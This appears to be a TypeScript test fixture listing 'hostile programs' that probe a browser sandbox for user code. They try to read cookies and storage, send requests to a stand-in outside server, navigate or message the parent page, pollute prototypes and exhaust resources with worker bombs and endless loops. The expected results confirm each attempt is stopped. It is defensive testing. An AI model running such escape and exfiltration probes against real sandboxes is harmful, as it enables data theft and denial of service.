/** A program that tries to leave its frame, or to occupy the machine. */
export type HostileProgram = {
	/** What it tries. */
	readonly name: string;
	/** The body of `signIn()`. `HOME` and `OUTSIDE` are origins: this site, and a server that must receive nothing. `reach(name, act)` notes what did not fail. */
	readonly body: string;
	/** What the console says in the end. Default: nothing was reached. */
	readonly ends?: RegExp;
	/** How long it may take, in milliseconds. Default: 20 seconds. */
	readonly within?: number;
};

const nothing = /Your client returned \[\]/;
const noPause = /Stopped\. The code ran for 5 seconds without a pause\./;

/** What surrounds the body of a hostile program. */
export function hostileSource({ body }: HostileProgram, home: string, outside: string): string {
	return `const HOME = '${home}';
const OUTSIDE = '${outside}';
const reached: string[] = [];
async function reach(name: string, act: () => unknown) {
  try {
    const timer = new Promise((_, reject) => setTimeout(reject, 1500));
    if ((await Promise.race([act(), timer])) !== undefined) reached.push(name);
  } catch {}
}
const asked = (request: any) => new Promise((resolve, reject) => { request.onsuccess = () => resolve(1); request.onerror = reject; });
export async function signIn() {
${body}
  return reached;
}`;
}

/** What a console says of a program that did not get out. */
export const endOf = ({ ends = nothing }: HostileProgram): RegExp => ends;

const tries = (parts: Readonly<Record<string, string>>): string =>
	Object.entries(parts)
		.map(([name, act]) => `  await reach('${name}', () => ${act});`)
		.join('\n');

/** Hostile programs, each with what must happen. */
export const hostilePrograms: readonly HostileProgram[] = [
	{
		name: 'storage of the site',
		body: tries({
			localStorage: 'localStorage.length',
			sessionStorage: 'sessionStorage.length',
			indexedDB: `asked(indexedDB.open('tollgate'))`,
			databases: 'indexedDB.databases()',
			caches: 'caches.keys()',
			'files of the origin': 'navigator.storage.getDirectory()',
			'file system': 'webkitRequestFileSystemSync(0, 1)',
			locks: `navigator.locks.request('a', () => 1)`
		})
	},
	{
		name: 'cookies of the site',
		body: tries({
			cookie: 'document.cookie',
			cookieStore: 'cookieStore.getAll()',
			'of a response': `fetch(HOME + '/ws/oauth2/auth/').then(({ headers }) => headers.get('set-cookie') ?? undefined)`
		})
	},
	{
		name: 'pages of the site',
		body: tries({
			'a page': `Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch(HOME + '/viewer')`,
			XMLHttpRequest: `new XMLHttpRequest()`,
			'a module': `import(HOME + '/service.css')`,
			'a sandbox of the server': `fetch(HOME + '/control/traffic').then(async (response) => (await response.text()).includes('canary') || undefined)`
		})
	},
	{
		name: 'other servers',
		body: tries({
			fetch: 'fetch(OUTSIDE)',
			'fetch with a name before the host': `fetch(HOME + '@' + OUTSIDE.slice(7))`,
			'the own fetch': 'Object.getPrototypeOf(fetch).constructor("url", "return self.fetch(url)")(OUTSIDE)',
			WebSocket: `new WebSocket(OUTSIDE.replace('http', 'ws'))`,
			EventSource: 'new EventSource(OUTSIDE)',
			WebTransport: 'new WebTransport(OUTSIDE.replace("http", "https"))',
			sendBeacon: 'navigator.sendBeacon(OUTSIDE) || undefined',
			'a module': 'import(OUTSIDE)',
			'a font': `new FontFace('a', 'url(' + OUTSIDE + '/font.woff2)').load()`,
			'a stream': 'new WebSocketStream(OUTSIDE.replace("http", "ws")).opened'
		})
	},
	{
		name: 'navigation of the page',
		body: tries({
			parent: 'parent.location.assign(OUTSIDE)',
			top: 'top.location.assign(OUTSIDE)',
			opener: 'opener.location.assign(OUTSIDE)',
			clients: 'self.clients.openWindow(OUTSIDE)',
			open: 'self.open(OUTSIDE)'
		})
	},
	{
		name: 'navigation of itself',
		body: `${tries({ assign: 'location.assign(OUTSIDE)', replace: 'location.replace(OUTSIDE)', reload: 'location.reload()' })}
  try { (self as any).location = OUTSIDE; } catch {}
  try { (location as any).href = OUTSIDE; } catch {}
  if (!String(self.location).startsWith('blob:')) reached.push(String(self.location));`
	},
	{
		name: 'forged messages to the page',
		body: tries({
			postMessage: `self.postMessage({ type: 'returned', id: 1, value: 1, text: 'forged' })`,
			parent: `parent.postMessage('a', '*')`,
			BroadcastChannel: `new BroadcastChannel('tollgate')`,
			'the port': 'Object.values(self).find((one) => one instanceof MessagePort)'
		})
	},
	{
		name: 'a message that is none, on the bridge',
		body: `  const send = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function () { send.call(this, { type: 'shell', value: 1 }); };
  console.log('a');
  await new Promise(() => {});`,
		ends: /Stopped\. The program sent something that the page does not understand\./
	},
	...['pong', 'started', 'returned'].map((type) => ({
		name: `messages that the page did not ask for, in a loop: ${type}`,
		body: `  const send = MessagePort.prototype.postMessage;
  let port: any;
  MessagePort.prototype.postMessage = function (message: any) { port = this; send.call(this, message); };
  console.log('a');
  for (;;) send.call(port, { type: '${type}', names: [], id: 7, value: 1, text: '1' });`,
		ends: /Stopped\. The program sent something that the page does not understand\./
	})),
	{
		name: 'lines in a loop, by its own messages',
		body: `  const send = MessagePort.prototype.postMessage;
  let port: any;
  MessagePort.prototype.postMessage = function (message: any) { port = this; send.call(this, message); };
  console.log('a');
  for (;;) send.call(port, { type: 'log', level: 'log', text: 'b' });`,
		ends: /Stopped\. The program wrote more than 1,000 lines\./
	},
	{
		name: 'timers in a loop',
		body: `  for (;;) { clearTimeout(setTimeout(() => {}, 1000)); await null; }`,
		ends: /Stopped\. The (program sent more than 2,500 messages to the page|code ran for 5 seconds without a pause)\./
	},
	{
		name: 'prototypes of what crosses the bridge',
		body: `  const send = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message: any) {
    send.call(this, JSON.parse(JSON.stringify(message).replace('{', '{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}},')));
  };
  Object.prototype.toString = Map.prototype.get = Promise.prototype.finally = () => { throw new Error('tricked'); };
  console.log('a');`
	},
	{
		name: 'a call of a handler that there is not',
		body: `  const send = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function () { send.call(this, { type: 'request', id: 1, kind: 'constructor', value: 1 }); };
  console.log('a');
  await new Promise(() => {});`,
		ends: /Stopped\. The program sent something that the page does not understand\./
	},
	{
		name: 'a result for a call of another run',
		body: `  const send = MessagePort.prototype.postMessage;
  let port: any;
  MessagePort.prototype.postMessage = function (message: any) { port = this; send.call(this, message); };
  console.log('a');
  setTimeout(() => { for (let id = 0; id < 50; id++) send.call(port, { type: 'returned', id, value: 'late', text: 'late' }); }, 300);
  await new Promise((resolve) => setTimeout(resolve, 100));`
	},
	{
		name: 'scripts by importScripts',
		body: tries({
			'of the site': `importScripts(HOME + '/service-worker.js') ?? 1`,
			'of another server': 'importScripts(OUTSIDE) ?? 1',
			'of data': `importScripts('data:text/javascript,self.a=1') ?? 1`
		})
	},
	{
		name: 'WebRTC',
		body: tries({
			connection: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + OUTSIDE.slice(7) }] }).createOffer()`,
			webkit: 'new webkitRTCPeerConnection({})',
			devices: 'navigator.mediaDevices.enumerateDevices()'
		})
	},
	{
		name: 'prefetch',
		body: tries({
			link: `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: OUTSIDE }))`,
			image: 'Object.assign(new Image(), { src: OUTSIDE })',
			'a bitmap': 'createImageBitmap(OUTSIDE as any)',
			'background fetch': `self.registration.backgroundFetch.fetch('a', OUTSIDE)`
		})
	},
	{
		name: 'a bomb of workers',
		body: `  for (let at = 0; at < 1000; at++) await reach('worker', () => new Worker(self.location.href)).catch(() => {});`
	},
	{
		name: 'workers from blobs and modules',
		body: `  const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
${tries({
	worker: 'new Worker(url)',
	module: `new Worker(url, { type: 'module' })`,
	shared: 'new SharedWorker(url)',
	constructor: 'new (Object.getPrototypeOf(self).constructor)(url)',
	worklet: 'new AudioContext().audioWorklet.addModule(url)'
})}`
	},
	{
		name: 'registration of a service worker',
		body: tries({
			register: `navigator.serviceWorker.register(HOME + '/service-worker.js')`,
			registrations: 'navigator.serviceWorker.getRegistrations().then(({ length }) => length || undefined)',
			registration: 'self.registration.unregister()'
		})
	},
	{ name: 'an endless loop', body: '  for (;;) {}', ends: noPause },
	{ name: 'an endless loop of promises', body: '  for (;;) await null;', ends: noPause },
	{
		name: 'a promise that is never kept',
		body: '  await new Promise(() => {});',
		ends: /Stopped\. The run took more than 60 seconds\./,
		within: 80_000
	},
	{
		name: 'a million lines',
		body: `  for (let at = 0; at < 1_000_000; at++) console.log('line', at);`,
		ends: /Stopped\. The (program wrote more than 1,000 lines|code ran for 5 seconds without a pause)\./
	},
	{
		name: 'a million requests',
		body: `  for (let at = 0; at < 1_000_000; at++) void fetch(HOME + '/ws/oauth2/token/').catch(() => undefined);`,
		ends: /Stopped\. The (program sent more than 1,000 requests|code ran for 5 seconds without a pause)\./
	},
	{
		name: 'eval and WebAssembly',
		body: tries({
			'eval with another global': `(0, eval)('typeof document === "undefined" && typeof Worker === "undefined" ? undefined : 1')`,
			Function: `new Function('return self.document ?? self.importScripts ?? self.XMLHttpRequest')()`,
			'a realm of shadow': 'new ShadowRealm()',
			'a timer of text': `new Promise((resolve) => setTimeout('self.done = typeof document', 1, resolve)).then(() => 1)`
		})
	},
	{
		name: 'downloads',
		body: tries({
			link: `Object.assign(document.createElement('a'), { href: 'data:,a', download: 'a.txt' }).click() ?? 1`,
			picker: 'self.showSaveFilePicker()',
			navigation: `location.assign('data:application/octet-stream,a') ?? 1`
		})
	},
	{
		name: 'dialogs',
		body: tries({ alert: `alert('a') ?? 1`, confirm: `confirm('a')`, prompt: `prompt('a')`, print: 'print() ?? 1' })
	},
	{
		name: 'fullscreen and pointer',
		body: tries({
			fullscreen: 'document.documentElement.requestFullscreen()',
			pointer: 'document.body.requestPointerLock()',
			'wake lock': `navigator.wakeLock.request('screen')`
		})
	},
	{
		name: 'the clipboard',
		body: tries({
			read: 'navigator.clipboard.readText()',
			write: `navigator.clipboard.writeText('a').then(() => 1)`,
			command: `document.execCommand('copy')`
		})
	},
	{
		name: 'notifications and devices',
		body: tries({
			permission: `Notification.permission === 'granted' || undefined`,
			notification: `new Notification('a').addEventListener('show', () => reached.push('shown'))`,
			push: 'self.registration.showNotification("a")',
			position: 'navigator.geolocation.getCurrentPosition(() => 1)',
			usb: 'navigator.usb.requestDevice({ filters: [] })',
			serial: 'navigator.serial.requestPort()'
		})
	},
	{
		name: '10 GB in one piece',
		body: tries({ buffer: 'new Uint8Array(10 * 2 ** 30).length > 0 ? undefined : 1' })
	}
];
